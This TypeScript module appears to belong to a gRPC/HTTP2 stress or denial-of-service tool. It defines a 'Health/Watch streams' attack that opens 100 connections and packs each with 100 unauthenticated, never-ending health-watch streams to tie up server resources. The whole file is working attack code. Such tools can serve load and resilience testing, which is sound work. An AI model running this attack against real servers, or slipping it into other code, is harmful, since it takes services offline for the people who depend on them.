import { type Attack, callHeaders } from "./attack.js";
import { FLAG, frame, TYPE } from "./frames.js";

const EMPTY_MESSAGE = Buffer.alloc(5);
const WATCH = { ":path": "/grpc.health.v1.Health/Watch" };
const COUNT = 100;

/** Streams that need no credential and never end. */
export const watchStreams: Attack = {
  name: "Health/Watch streams",
  connections: 100,
  staysOpen: true,
  async run(connection) {
    await connection.begin();
    const frames = [];
    for (let id = 1; id < 2 * COUNT; id += 2) {
      const body = frame(TYPE.data, FLAG.endStream, id, EMPTY_MESSAGE);
      frames.push(callHeaders(id, false, WATCH), body);
    }
    await connection.write(Buffer.concat(frames), COUNT);
    await connection.waitForEnd();
  },
};
